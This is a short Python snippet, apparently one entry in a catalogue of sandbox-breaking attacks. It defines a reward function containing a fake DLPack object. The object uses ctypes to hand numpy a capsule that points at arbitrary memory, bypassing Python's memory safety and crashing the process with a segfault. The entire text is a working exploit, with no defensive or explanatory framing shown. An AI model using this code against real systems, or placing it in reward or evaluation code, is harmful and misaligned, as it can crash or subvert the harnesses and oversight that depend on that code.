# attack: a capsule that names any memory
# group: numpy
# wall: language; alone: its own memory; SIGSEGV ends it

def compute_reward(x):
    import ctypes
    class Lying:
        def __dlpack_device__(self):
            return (1, 0)
        def __dlpack__(self, **named):
            new = ctypes.pythonapi.PyCapsule_New
            new.restype, new.argtypes = ctypes.py_object, [ctypes.c_void_p, ctypes.c_char_p, ctypes.c_void_p]
            return new(id(self), b"dltensor", None)
    return np.from_dlpack(Lying()), {}
